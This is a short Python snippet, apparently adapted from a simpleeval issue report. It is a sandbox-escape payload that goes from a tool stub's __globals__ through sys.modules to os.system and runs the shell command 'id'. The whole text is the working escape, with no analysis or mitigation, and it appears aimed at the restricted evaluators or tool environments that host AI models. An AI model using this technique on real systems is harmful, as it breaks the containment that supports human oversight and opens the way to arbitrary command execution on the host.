# Source: https://github.com/danthedeckie/simpleeval/issues/15 (func_globals / __globals__ snooping), adapted: the globals of a tool stub
mods = get_weather.__globals__
print(mods["sys"].modules["os"].system("id"))
